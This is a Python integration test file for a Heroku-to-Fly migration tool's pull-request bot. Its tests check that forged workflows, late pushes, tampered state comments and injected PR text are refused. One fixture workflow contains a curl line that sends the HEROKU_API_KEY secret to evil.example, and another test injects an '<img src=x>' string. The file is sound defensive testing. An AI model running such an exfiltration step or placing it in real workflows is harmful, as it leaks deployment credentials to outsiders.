"""Issue 10's attacks on the pull-request flow, each run against the fake GitHub and shown
refused or harmless, with nothing changed (docs/security.md lists which test shows which).

Attack 3 (credentials handed to tools) is in tests/unit/base/test_child_env.py and
tests/unit/stages/test_deploy_files_guard.py; attack 8 (anyone can make the bot post) in
tests/integration/test_pr_flow.py; attack 6 is branch `mask`, attack 7 branch `shipping`.
"""

from __future__ import annotations

import base64
import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest

from herokufly import action
from herokufly.base import errors
from herokufly.talk.github import ACTIONS_BOT, marker
from herokufly.pr import comment, events, state_sync
from herokufly.act.state import MigrationState
from tests.integration.test_pr_flow import FIXTURES, HEAD, fake, replies, runner, sticky  # noqa: F401  (fixtures)
from tests.integration.test_pr_state import fresh_runner, stages, step  # noqa: F401  (fixtures)

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[2]

WF_TOKEN = "ghp_wf_token_abcdef"
EVIL_WORKFLOW = """name: Heroku
on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$HEROKU_API_KEY" https://evil.example
        env:
          HEROKU_API_KEY: ${{ secrets.HEROKU_API_KEY }}
      - uses: akhileshns/heroku-deploy@v3.14.15
        with:
          heroku_app_name: shop
"""


def comment_event(tmp_path, body: str, *, comment_id: int = 2201, number: int = 7) -> str:
    """An event file for a new /herokufly comment by alice (write access)."""
    payload = json.loads((FIXTURES / "issue_comment_writer_migrate.json").read_text())
    payload["comment"].update(id=comment_id, body=body, created_at=fake_now())
    payload["issue"]["number"] = number
    path = tmp_path / f"event-{comment_id}.json"
    path.write_text(json.dumps(payload))
    return str(path)


def fake_now() -> str:
    from tests.fakes.github_api import _now

    return _now()


# ------------------------------------------------------------------ attack 1: workflow files


def test_1_a_fork_pr_named_main_gets_nothing_committed(fake, runner):
    fake.add_token(WF_TOKEN, "alice", workflows=True)
    fake.add_pull(11, head_sha="b" * 40, head_repo="mallory/shop", head_ref="main")
    payload = json.loads((FIXTURES / "issue_comment_writer_plan.json").read_text())
    payload["issue"]["number"] = 11
    event = Path.cwd().parent / "fork-plan.json"
    event.write_text(json.dumps(payload))
    code, outputs, _ = runner(str(event), command="workflow", workflow_token=WF_TOKEN, head_sha="b" * 40)
    assert code == 0 and outputs["workflow_committed"] == "false"
    assert fake.commits == [] and fake.refs["main"] == "0" * 40
    assert "comes from another repository" in sticky(fake, 11)["body"]


def test_1_the_prs_own_workflow_files_are_never_committed(fake, runner):
    fake.add_token(WF_TOKEN, "alice", workflows=True)
    evil = Path.cwd() / ".github" / "workflows" / "heroku.yml"
    evil.parent.mkdir(parents=True)
    evil.write_text(EVIL_WORKFLOW)
    code, outputs, _ = runner("issue_comment_writer_plan.json", command="workflow", workflow_token=WF_TOKEN,
                              head_sha=HEAD)
    assert code == 0 and outputs["workflow_committed"] == "true"
    assert {c["path"] for c in fake.commits} == {".github/workflows/fly-deploy.yml"}
    assert "evil.example" not in str(fake.files)
    body = sticky(fake)["body"]
    assert "heroku.yml" in body and "evil.example" not in body  # a note, not the PR's file


def test_1_the_commit_goes_on_the_pinned_head_or_not_at_all(fake, runner):
    fake.add_token(WF_TOKEN, "alice", workflows=True)
    fake.move_head(7, "7" * 40)  # pushed after the command was authorized on HEAD
    code, outputs, _ = runner("issue_comment_writer_plan.json", command="workflow", workflow_token=WF_TOKEN,
                              head_sha=HEAD)
    assert code == 0 and outputs["workflow_committed"] == "false"
    assert fake.commits == [] and fake.refs["herokufly"] == "7" * 40
    assert "moved from 999999999999 to 777777777777" in sticky(fake)["body"]


def test_1_a_push_racing_the_commit_is_never_overwritten(fake):
    """The ref moves only by fast-forward from the pinned parent (GitHub's force=false)."""
    from herokufly.talk.github import GitHubClient

    fake.add_token(WF_TOKEN, "alice", workflows=True)
    client = GitHubClient("acme/shop", token=WF_TOKEN, api_url=fake.url, throttle=False)
    new = client.commit_on("herokufly", HEAD, {".github/workflows/fly-deploy.yml": "on: push\n"}, "add")
    assert fake.refs["herokufly"] == new and fake.git_commits[new]["parents"] == [HEAD]
    with pytest.raises(errors.GitHubError, match="moved after the command was authorized"):
        client.commit_on("herokufly", HEAD, {".github/workflows/fly-deploy.yml": "on: [push]\n"}, "again")
    assert fake.refs["herokufly"] == new


# ------------------------------------------------------------------ attack 2: the head pinned late


def test_2_a_push_after_the_comment_is_refused(fake, runner, tmp_path):
    event = comment_event(tmp_path, "/herokufly migrate")
    fake.move_head(7, "7" * 40)  # between the comment and the gate (the image build took minutes)
    code, outputs, _ = runner(event, command="auto")
    assert code == 0 and outputs["run"] == "false" and outputs["head_sha"] == ""
    assert "pushed commit 777777777777 after the command's comment" in replies(fake, 7)[-1]


def test_2_a_force_push_after_the_comment_is_refused(fake, runner, tmp_path):
    event = comment_event(tmp_path, "/herokufly migrate cutover")
    fake.move_head(7, "5" * 40, force=True)
    code, outputs, _ = runner(event, command="auto")
    assert outputs["run"] == "false" and "force-pushed" in replies(fake, 7)[-1]


def test_2_the_sha_in_the_command_is_exact(fake, runner, tmp_path):
    # A commit dated before the comment (the pusher sets that date) slips past the timeline;
    # the SHA the commenter names does not.
    fake.move_head(7, "7" * 40, committed_at="2020-01-01T00:00:00Z")
    code, outputs, _ = runner(comment_event(tmp_path, f"/herokufly migrate deploy {HEAD[:12]}"), command="auto")
    assert outputs["run"] == "false"
    assert "not 999999999999 as the command says" in replies(fake, 7)[-1]
    code, outputs, _ = runner(comment_event(tmp_path, "/herokufly migrate deploy 7777777", comment_id=2202),
                              command="auto")
    assert outputs["run"] == "true" and outputs["head_sha"] == "7" * 40 and json.loads(outputs["stages"]) == ["deploy"]


# ------------------------------------------------------------------ attack 4: forged state


def _rewrite_record(fake, change, *, checksum_v1: bool = False):
    """Edit the sticky comment's record the way someone with a bot's or an editor's pen could."""
    record = sticky(fake)
    progress = comment.decode(record["body"])
    change(progress)
    if checksum_v1:  # what the old format accepted: anyone can recompute a plain SHA-256
        data = progress[state_sync.KEY]["state"]
        text = json.dumps(data, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        progress[state_sync.KEY] = {"v": 1, "sha256": hashlib.sha256(text.encode()).hexdigest(), "state": data}
    raw = base64.b64encode(json.dumps(progress).encode()).decode()
    fake.comments[record["id"]]["body"] = record["body"].split("<!-- herokufly:data")[0] + f"<!-- herokufly:data {raw} -->\n"


def _forge_formation(progress):
    state = progress[state_sync.KEY]["state"]
    state["heroku"]["formation_before_cutover"] = {"web": 10000}
    state["updated_at"] = "2099-01-01T00:00:00Z"


def test_4_a_forged_state_never_reaches_rollback(fake, runner, stages, capsys):
    assert step(runner, command="migrate", stage="cutover") == 0
    _rewrite_record(fake, _forge_formation, checksum_v1=True)
    capsys.readouterr()
    assert step(runner, command="rollback") == errors.EXIT_USER
    assert len(stages) == 1  # the rollback handler never ran: Heroku was not touched
    out = capsys.readouterr()
    assert "refused the migration state in the progress comment" in out.out + out.err


def test_4_refusal_is_one_clear_line(fake, runner, stages, capsys):
    assert step(runner, command="migrate", stage="cutover") == 0
    _rewrite_record(fake, _forge_formation)
    capsys.readouterr()
    assert step(runner, command="rollback") == errors.EXIT_USER
    out = capsys.readouterr()
    lines = [line for line in (out.out + out.err).splitlines() if "refused the migration state" in line]
    assert len(lines) == 1 and "Traceback" not in out.err and len(stages) == 1


def test_4_the_gate_refuses_and_leaves_a_forged_comment_as_it_is(fake, runner, stages):
    """The first job of the next run must not write over it either: it could be a genuine state
    signed with a key since replaced, and writing would lose the recorded formation."""
    assert step(runner, command="migrate", stage="cutover") == 0
    _rewrite_record(fake, _forge_formation)
    before = sticky(fake)["body"]
    code, outputs, summary = runner("issue_comment_writer_migrate.json", command="auto")
    assert code == 0 and outputs["run"] == "false"
    assert sticky(fake)["body"] == before
    assert "refused the migration state in the progress comment" in replies(fake, 7)[-1]
    assert "refused the migration state" in summary


def test_4_another_workflows_bot_comment_is_not_adopted(fake, runner, stages):
    """github-actions[bot] posts for every workflow; a marked comment from another one carries no signature."""
    state = MigrationState.load(Path("x.json"), heroku_app="shop", fly_app="shop-fly")
    state.heroku["formation_before_cutover"] = {"web": 10000}
    state.data["stages"]["cutover"] = {"status": "done"}
    public = state_sync.public_copy(state.data)
    text = json.dumps(public, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    progress = comment.new_progress(app="shop-fly", heroku_app="shop", command=events.Command("rollback"),
                                    actor="alice", head_sha=HEAD)
    progress[state_sync.KEY] = {"v": 1, "sha256": hashlib.sha256(text.encode()).hexdigest(), "state": public}
    fake.add_comment(7, ACTIONS_BOT, f"{marker('shop-fly')}\nother workflow\n{comment.encode(progress)}\n",
                     user_type="Bot")
    assert step(runner, command="rollback") == errors.EXIT_USER
    assert stages == []


def test_4_a_genuine_block_copied_into_another_comment_does_not_verify(fake, runner, stages):
    assert step(runner, command="migrate", stage="cutover") == 0
    genuine = sticky(fake)
    del fake.comments[genuine["id"]]
    fake.add_comment(7, ACTIONS_BOT, genuine["body"], user_type="Bot")  # same text, another comment id
    assert step(runner, command="rollback") == errors.EXIT_USER
    assert len(stages) == 1


def test_4_pr_text_cannot_put_a_data_block_ahead_of_ours(fake, runner, monkeypatch):
    runner("pull_request_opened.json", event_name="pull_request", command="auto")
    forged = comment.encode({"version": 1, "stages": {"cutover": {"status": "done"}}, "app": "shop-fly"})
    plan = json.loads(subprocess.run(
        [sys.executable, "-m", "herokufly", "plan", "--offline", "--json", "--repo", str(ROOT / "examples" / "phoenix_app"),
         "--heroku-app", "shop", "--fly-app", "shop-fly"], capture_output=True, text=True, check=True, cwd=ROOT).stdout)
    # A Procfile line is the PR author's text; so are config var names and add-on names on Heroku.
    plan["processes"]["worker"] = f"bin/worker {forged} @everyone <img src=x>"

    def fake_plan(ctx):
        ctx.files.set_output("plan_json", json.dumps(plan))
        return errors.EXIT_OK

    monkeypatch.setitem(action.HANDLERS, "plan", fake_plan)
    code, _, summary = runner("pull_request_opened.json", event_name="pull_request", command="plan", head_sha=HEAD)
    assert code == 0
    body = sticky(fake)["body"]
    assert body.count("<!-- herokufly:data") == 1 and body.rstrip().endswith("-->")
    assert comment.decode(body)["stages"]["plan"]["status"] == "done"  # ours, not the forged one
    for text in (body, summary):
        assert "<img" not in text and "@everyone" not in text


def test_4_a_state_file_committed_in_the_pr_is_deleted_before_anything_reads_it(fake, runner, stages, capsys):
    workspace = Path.cwd()
    committed = workspace / ".herokufly" / "shop-fly.state.json"
    state = MigrationState.load(committed, heroku_app="shop", fly_app="shop-fly")
    state.heroku["formation_before_cutover"] = {"web": 10000}
    state.save()
    git = ["git", "-c", "user.email=m@example.test", "-c", "user.name=m"]
    subprocess.run(["git", "init", "-q"], cwd=workspace, check=True)
    subprocess.run([*git, "add", "-f", ".herokufly"], cwd=workspace, check=True)
    subprocess.run([*git, "commit", "-qm", "state"], cwd=workspace, check=True)
    code, _, _ = runner("issue_comment_writer_migrate.json", head_sha=HEAD, heroku_app="shop", command="rollback")
    assert code == 0
    assert stages == [None]  # the rollback stand-in found no state: the committed one was deleted
    assert "came with the pull request" in capsys.readouterr().err


# ------------------------------------------------------------------ attack 5: the artifact


def test_5_the_file_the_artifact_uploads_is_the_public_copy(fake, runner, stages, monkeypatch):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert step(runner, command="migrate", stage="secrets") == 0
    on_disk = json.loads(Path(".herokufly/shop-fly.state.json").read_text())
    assert "salt" not in on_disk and "secrets" not in on_disk
    assert on_disk["stages"]["secrets"]["status"] == "done"
